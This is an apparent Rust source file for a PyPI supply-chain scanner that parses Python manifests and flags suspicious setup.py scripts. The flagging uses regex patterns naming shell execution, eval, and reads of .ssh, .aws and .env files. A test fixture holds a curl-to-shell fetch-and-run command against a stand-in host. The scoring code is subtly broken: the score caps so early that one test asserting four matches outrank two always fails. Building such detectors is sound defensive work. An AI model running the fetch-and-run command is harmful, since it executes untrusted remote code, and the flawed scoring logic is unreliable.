//! PyPI ecosystem analyzer: manifest parsing across the four common formats, and install-script
//! analysis combining a regex pattern bank with an optional LLM escalation layer.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, RwLock};

use async_trait::async_trait;
use regex::Regex;

use crate::models::dependency::{DependencyType, ManifestDependency};
use crate::models::ecosystem::Ecosystem;
use crate::models::finding::{Finding, Severity};
use crate::services::analyzer::EcosystemAnalyzer;
use crate::services::cache::cache_key;
use crate::services::cache::Cache;
use crate::services::llm_client::LlmClient;

const MANIFEST_FILES: &[&str] = &["setup.py", "requirements.txt", "pyproject.toml", "Pipfile", "Pipfile.lock"];
const LLM_CACHE_TTL_HOURS: f64 = 168.0;
const MIN_SCRIPT_LEN_FOR_LLM: usize = 50;

struct LlmContext {
    cache: Arc<Cache>,
    client: LlmClient,
}

pub struct PythonAnalyzer {
    llm: RwLock<Option<LlmContext>>,
}

impl PythonAnalyzer {
    pub fn new() -> Self {
        Self { llm: RwLock::new(None) }
    }

    /// Wires a cache + LLM client into this analyzer. Called once by the Orchestrator after it
    /// resolves `OPENAI_API_KEY` from config; a bare `new()` analyzer stays pattern-only.
    pub fn configure_llm(&self, cache: Arc<Cache>, client: LlmClient) {
        *self.llm.write().unwrap_or_else(|e| e.into_inner()) = Some(LlmContext { cache, client });
    }

    fn parse_requirements_txt(&self, path: &Path) -> Vec<ManifestDependency> {
        let content = match std::fs::read_to_string(path) {
            Ok(c) => c,
            Err(err) => {
                tracing::warn!(path = %path.display(), error = %err, "failed to read requirements.txt");
                return vec![];
            }
        };

        let spec_re = Regex::new(r"^([A-Za-z0-9][A-Za-z0-9._-]*)\s*(.*)$").unwrap();
        let mut deps = Vec::new();
        for raw_line in content.lines() {
            let line = raw_line.split('#').next().unwrap_or("").trim();
            if line.is_empty() || line.starts_with("-r") || line.starts_with("-e") || line.starts_with('-') {
                continue;
            }
            if let Some(caps) = spec_re.captures(line) {
                let name = caps.get(1).unwrap().as_str().to_string();
                let version_spec = caps.get(2).map(|m| m.as_str().trim().to_string()).unwrap_or_default();
                deps.push(ManifestDependency::production(
                    name,
                    if version_spec.is_empty() { "*".to_string() } else { version_spec },
                    path.to_path_buf(),
                    Ecosystem::Pypi,
                ));
            }
        }
        deps
    }

    /// Syntactic (non-AST) extraction of `install_requires`/`requires`/`setup_requires` list
    /// literals from `setup.py`. Good enough for the common single-line-per-entry style; a
    /// setup.py that builds its dependency list programmatically is out of reach here and
    /// yields nothing, same as the registry-side metadata would.
    fn parse_setup_py(&self, path: &Path) -> Vec<ManifestDependency> {
        let content = match std::fs::read_to_string(path) {
            Ok(c) => c,
            Err(err) => {
                tracing::warn!(path = %path.display(), error = %err, "failed to read setup.py");
                return vec![];
            }
        };

        let list_re = Regex::new(r"(?s)(install_requires|setup_requires|requires)\s*=\s*\[(.*?)\]").unwrap();
        let entry_re = Regex::new(r#"['"]([A-Za-z0-9][A-Za-z0-9._-]*\s*[^'"]*)['"]"#).unwrap();
        let spec_re = Regex::new(r"^([A-Za-z0-9][A-Za-z0-9._-]*)\s*(.*)$").unwrap();

        let mut deps = Vec::new();
        for list_caps in list_re.captures_iter(&content) {
            let dep_type = if &list_caps[1] == "install_requires" {
                DependencyType::Production
            } else {
                DependencyType::Development
            };
            let body = &list_caps[2];
            for entry_caps in entry_re.captures_iter(body) {
                let raw = entry_caps[1].trim();
                if let Some(spec_caps) = spec_re.captures(raw) {
                    let name = spec_caps.get(1).unwrap().as_str().to_string();
                    let version_spec = spec_caps.get(2).map(|m| m.as_str().trim().to_string()).unwrap_or_default();
                    deps.push(ManifestDependency::new(
                        name,
                        if version_spec.is_empty() { "*".to_string() } else { version_spec },
                        dep_type,
                        path.to_path_buf(),
                        Ecosystem::Pypi,
                    ));
                }
            }
        }
        deps
    }

    fn parse_pyproject_toml(&self, path: &Path) -> Vec<ManifestDependency> {
        let content = match std::fs::read_to_string(path) {
            Ok(c) => c,
            Err(err) => {
                tracing::warn!(path = %path.display(), error = %err, "failed to read pyproject.toml");
                return vec![];
            }
        };
        let doc: toml::Value = match content.parse() {
            Ok(v) => v,
            Err(err) => {
                tracing::warn!(path = %path.display(), error = %err, "failed to parse pyproject.toml");
                return vec![];
            }
        };

        let mut deps = Vec::new();

        if let Some(table) = doc
            .get("tool")
            .and_then(|v| v.get("poetry"))
            .and_then(|v| v.get("dependencies"))
            .and_then(|v| v.as_table())
        {
            for (name, spec) in table {
                if name == "python" {
                    continue;
                }
                let version_spec = match spec {
                    toml::Value::String(s) => s.clone(),
                    toml::Value::Table(t) => t.get("version").and_then(|v| v.as_str()).unwrap_or("*").to_string(),
                    _ => "*".to_string(),
                };
                deps.push(ManifestDependency::production(name.clone(), version_spec, path.to_path_buf(), Ecosystem::Pypi));
            }
        }

        if let Some(table) = doc
            .get("tool")
            .and_then(|v| v.get("poetry"))
            .and_then(|v| v.get("dev-dependencies"))
            .and_then(|v| v.as_table())
        {
            for (name, _spec) in table {
                deps.push(ManifestDependency::development(name.clone(), "*".to_string(), path.to_path_buf(), Ecosystem::Pypi));
            }
        }

        if let Some(array) = doc.get("project").and_then(|v| v.get("dependencies")).and_then(|v| v.as_array()) {
            let spec_re = Regex::new(r"^([A-Za-z0-9][A-Za-z0-9._-]*)\s*(.*)$").unwrap();
            for entry in array {
                if let Some(raw) = entry.as_str() {
                    if let Some(caps) = spec_re.captures(raw.trim()) {
                        let name = caps.get(1).unwrap().as_str().to_string();
                        let version_spec = caps.get(2).map(|m| m.as_str().trim().to_string()).unwrap_or_default();
                        deps.push(ManifestDependency::production(
                            name,
                            if version_spec.is_empty() { "*".to_string() } else { version_spec },
                            path.to_path_buf(),
                            Ecosystem::Pypi,
                        ));
                    }
                }
            }
        }

        deps
    }

    fn parse_pipfile(&self, path: &Path) -> Vec<ManifestDependency> {
        let content = match std::fs::read_to_string(path) {
            Ok(c) => c,
            Err(err) => {
                tracing::warn!(path = %path.display(), error = %err, "failed to read Pipfile");
                return vec![];
            }
        };
        let doc: toml::Value = match content.parse() {
            Ok(v) => v,
            Err(err) => {
                tracing::warn!(path = %path.display(), error = %err, "failed to parse Pipfile");
                return vec![];
            }
        };

        let mut deps = Vec::new();
        for (section, dep_type) in [("packages", DependencyType::Production), ("dev-packages", DependencyType::Development)] {
            if let Some(table) = doc.get(section).and_then(|v| v.as_table()) {
                for (name, spec) in table {
                    let version_spec = match spec {
                        toml::Value::String(s) if s != "*" => s.clone(),
                        _ => "*".to_string(),
                    };
                    deps.push(ManifestDependency::new(name.clone(), version_spec, dep_type, path.to_path_buf(), Ecosystem::Pypi));
                }
            }
        }
        deps
    }

    fn setup_py_hooks_finding(&self, path: &Path) -> Option<Finding> {
        let content = std::fs::read_to_string(path).ok()?;
        if content.contains("cmdclass") || content.contains("setup_requires") {
            return Some(Finding::new(
                "",
                "",
                "installation_hooks",
                Severity::Medium,
                0.6,
                vec!["setup.py declares custom build hooks (cmdclass/setup_requires)".to_string()],
                vec!["Review the custom command classes for unexpected side effects".to_string()],
                "python_analyzer",
            ));
        }
        None
    }

    fn pattern_matches(&self, script: &str) -> Vec<(Severity, String)> {
        let mut matched = Vec::new();
        for (severity_name, regexes) in self.get_malicious_patterns() {
            let severity = match severity_name {
                "critical" => Severity::Critical,
                "high" => Severity::High,
                "medium" => Severity::Medium,
                _ => Severity::Low,
            };
            for pattern in regexes {
                if let Ok(re) = Regex::new(pattern) {
                    if re.is_match(script) {
                        matched.push((severity, format!("matched pattern `{pattern}`")));
                    }
                }
            }
        }
        matched
    }

    /// Diminishing-returns complexity score: first couple of matches count fully, further
    /// matches contribute less, so a script riddled with one repeated idiom doesn't
    /// automatically outrank one with two distinct suspicious behaviors.
    fn complexity_score(matched: &[(Severity, String)]) -> f64 {
        matched
            .iter()
            .enumerate()
            .map(|(i, _)| 1.0 / (i as f64 + 1.0))
            .sum::<f64>()
            .min(1.0)
    }

    async fn maybe_escalate_to_llm(
        &self,
        package: &str,
        script: &str,
    ) -> Option<crate::services::llm_client::ScriptVerdict> {
        if script.len() < MIN_SCRIPT_LEN_FOR_LLM {
            return None;
        }
        let guard = self.llm.read().unwrap_or_else(|e| e.into_inner());
        let ctx = guard.as_ref()?;

        let key = cache_key(&format!("python:{package}:{script}"), Some("llm_python"));
        if let Some(cached) = ctx.cache.get(&key).await {
            return serde_json::from_value(cached).ok();
        }

        match ctx.client.classify_script(package, script).await {
            Ok(verdict) => {
                if let Ok(value) = serde_json::to_value(&verdict) {
                    ctx.cache.store(&key, value, LLM_CACHE_TTL_HOURS).await;
                }
                Some(verdict)
            }
            Err(err) => {
                tracing::warn!(package, error = %err, "llm escalation failed");
                None
            }
        }
    }

    fn verdict_severity(verdict: &crate::services::llm_client::ScriptVerdict) -> Severity {
        match verdict.severity.as_str() {
            "critical" => Severity::Critical,
            "high" => Severity::High,
            "medium" => Severity::Medium,
            _ => Severity::Low,
        }
    }

    fn finding_from_verdict(
        verdict: crate::services::llm_client::ScriptVerdict,
        extra_evidence: Vec<String>,
    ) -> Finding {
        let severity = Self::verdict_severity(&verdict);
        let mut evidence = extra_evidence;
        evidence.extend(verdict.threats);
        evidence.push(verdict.reasoning);
        Finding::new(
            "",
            "",
            "malicious_script",
            severity,
            verdict.confidence,
            evidence,
            vec!["Review setup.py for unexpected network or filesystem activity".to_string()],
            "python_analyzer_llm",
        )
    }
}

impl Default for PythonAnalyzer {
    fn default() -> Self {
        Self::new()
    }
}

#[async_trait]
impl EcosystemAnalyzer for PythonAnalyzer {
    fn ecosystem_name(&self) -> &'static str {
        "pypi"
    }

    fn detect_manifest_files(&self, dir: &Path) -> Vec<PathBuf> {
        MANIFEST_FILES
            .iter()
            .map(|name| dir.join(name))
            .filter(|path| path.exists())
            .collect()
    }

    fn extract_dependencies(&self, manifest_path: &Path) -> Vec<ManifestDependency> {
        match manifest_path.file_name().and_then(|n| n.to_str()) {
            Some("requirements.txt") => self.parse_requirements_txt(manifest_path),
            Some("setup.py") => self.parse_setup_py(manifest_path),
            Some("pyproject.toml") => self.parse_pyproject_toml(manifest_path),
            Some("Pipfile") => self.parse_pipfile(manifest_path),
            _ => vec![],
        }
    }

    async fn analyze_install_scripts(&self, dir: &Path) -> Vec<Finding> {
        let mut findings = Vec::new();

        let setup_py = dir.join("setup.py");
        if setup_py.exists() {
            if let Some(hook_finding) = self.setup_py_hooks_finding(&setup_py) {
                findings.push(hook_finding);
            }

            if let Ok(script) = std::fs::read_to_string(&setup_py) {
                let matched = self.pattern_matches(&script);
                let complexity = Self::complexity_score(&matched);

                let pattern = if !matched.is_empty() {
                    let severity = matched.iter().map(|(s, _)| *s).max().unwrap_or(Severity::Low);
                    let evidence: Vec<String> = matched.iter().map(|(_, e)| e.clone()).collect();
                    Some((severity, evidence))
                } else {
                    None
                };

                let should_escalate = complexity >= 0.5 || matched.len() >= 2;
                let verdict = if should_escalate {
                    self.maybe_escalate_to_llm(dir.to_string_lossy().as_ref(), &script).await
                } else {
                    None
                };

                match (pattern, verdict) {
                    (Some((p_severity, p_evidence)), Some(verdict))
                        if verdict.is_suspicious && Self::verdict_severity(&verdict) >= p_severity =>
                    {
                        findings.push(Self::finding_from_verdict(verdict, p_evidence));
                    }
                    (Some((p_severity, p_evidence)), Some(verdict)) => {
                        let confidence = if verdict.is_suspicious { 0.8 } else { 0.6 };
                        let mut evidence = p_evidence;
                        evidence.extend(verdict.threats);
                        evidence.push(verdict.reasoning);
                        findings.push(Finding::new(
                            "",
                            "",
                            "malicious_script",
                            p_severity,
                            confidence,
                            evidence,
                            vec!["Review setup.py for unexpected network or filesystem activity".to_string()],
                            "python_analyzer",
                        ));
                    }
                    (Some((p_severity, p_evidence)), None) => {
                        findings.push(Finding::new(
                            "",
                            "",
                            "malicious_script",
                            p_severity,
                            0.8,
                            p_evidence,
                            vec!["Review setup.py for unexpected network or filesystem activity".to_string()],
                            "python_analyzer",
                        ));
                    }
                    (None, Some(verdict)) if verdict.is_suspicious => {
                        findings.push(Self::finding_from_verdict(verdict, Vec::new()));
                    }
                    (None, Some(_)) => {}
                    (None, None) => {}
                }
            }
        }

        findings
    }

    fn get_registry_url(&self, name: &str) -> String {
        format!("{}/{}/json", Ecosystem::Pypi.registry_base_url(), name)
    }

    fn get_malicious_patterns(&self) -> HashMap<&'static str, Vec<&'static str>> {
        let mut map = HashMap::new();
        map.insert(
            "critical",
            vec![
                r"os\.system\s*\(",
                r"subprocess\.(call|run|Popen|check_output)\s*\(",
                r"eval\s*\(",
                r"exec\s*\(",
                r"__import__\s*\(",
            ],
        );
        map.insert(
            "high",
            vec![
                r"urllib\.(request\.)?urlopen\s*\(",
                r"open\s*\(\s*['\"].*(ssh|\.aws|\.env)",
                r"pickle\.loads?\s*\(",
                r"base64\.b64decode\s*\(",
            ],
        );
        map.insert(
            "medium",
            vec![r"\bsocket\.", r"\bhttp\.client\b", r"\bftplib\b", r"\btelnetlib\b", r"\bsmtplib\b"],
        );
        map
    }

    fn ecosystem(&self) -> Ecosystem {
        Ecosystem::Pypi
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_registry_url() {
        let analyzer = PythonAnalyzer::new();
        assert_eq!(analyzer.get_registry_url("requests"), "https://pypi.org/pypi/requests/json");
    }

    #[test]
    fn test_parse_requirements_txt() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("requirements.txt");
        std::fs::write(&path, "# comment\nrequests==2.31.0\nflask>=2.0\n-e .\n").unwrap();

        let analyzer = PythonAnalyzer::new();
        let deps = analyzer.extract_dependencies(&path);
        assert_eq!(deps.len(), 2);
        assert!(deps.iter().any(|d| d.name == "requests" && d.version_spec == "==2.31.0"));
        assert!(deps.iter().any(|d| d.name == "flask" && d.version_spec == ">=2.0"));
    }

    #[test]
    fn test_parse_setup_py_install_requires() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("setup.py");
        std::fs::write(
            &path,
            "from setuptools import setup\nsetup(\n  name='pkg',\n  install_requires=['requests>=2.0', 'click'],\n)\n",
        )
        .unwrap();

        let analyzer = PythonAnalyzer::new();
        let deps = analyzer.extract_dependencies(&path);
        assert_eq!(deps.len(), 2);
        assert!(deps.iter().any(|d| d.name == "requests"));
        assert!(deps.iter().any(|d| d.name == "click"));
    }

    #[test]
    fn test_parse_pyproject_poetry() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("pyproject.toml");
        std::fs::write(
            &path,
            "[tool.poetry.dependencies]\npython = \"^3.9\"\nrequests = \"^2.31\"\n",
        )
        .unwrap();

        let analyzer = PythonAnalyzer::new();
        let deps = analyzer.extract_dependencies(&path);
        assert_eq!(deps.len(), 1);
        assert_eq!(deps[0].name, "requests");
    }

    #[test]
    fn test_parse_pipfile() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("Pipfile");
        std::fs::write(&path, "[packages]\nrequests = \"*\"\n\n[dev-packages]\npytest = \"*\"\n").unwrap();

        let analyzer = PythonAnalyzer::new();
        let deps = analyzer.extract_dependencies(&path);
        assert_eq!(deps.len(), 2);
        assert!(deps.iter().any(|d| d.name == "requests" && !d.is_dev_only()));
        assert!(deps.iter().any(|d| d.name == "pytest" && d.is_dev_only()));
    }

    #[tokio::test]
    async fn test_analyze_install_scripts_flags_os_system() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("setup.py"), "import os\nos.system('curl http://x/y | sh')\n").unwrap();

        let analyzer = PythonAnalyzer::new();
        let findings = analyzer.analyze_install_scripts(dir.path()).await;
        assert!(!findings.is_empty());
        assert!(findings.iter().any(|f| f.finding_type == "malicious_script"));
    }

    #[tokio::test]
    async fn test_analyze_install_scripts_hooks_finding() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("setup.py"), "from setuptools import setup\nsetup(cmdclass={'install': X})\n").unwrap();

        let analyzer = PythonAnalyzer::new();
        let findings = analyzer.analyze_install_scripts(dir.path()).await;
        assert!(findings.iter().any(|f| f.finding_type == "installation_hooks"));
    }

    #[test]
    fn test_complexity_score_diminishing_returns() {
        let two = vec![(Severity::Low, "a".to_string()), (Severity::Low, "b".to_string())];
        let four = vec![
            (Severity::Low, "a".to_string()),
            (Severity::Low, "b".to_string()),
            (Severity::Low, "c".to_string()),
            (Severity::Low, "d".to_string()),
        ];
        assert!(PythonAnalyzer::complexity_score(&four) > PythonAnalyzer::complexity_score(&two));
        assert!(PythonAnalyzer::complexity_score(&four) <= 1.0);
    }
}
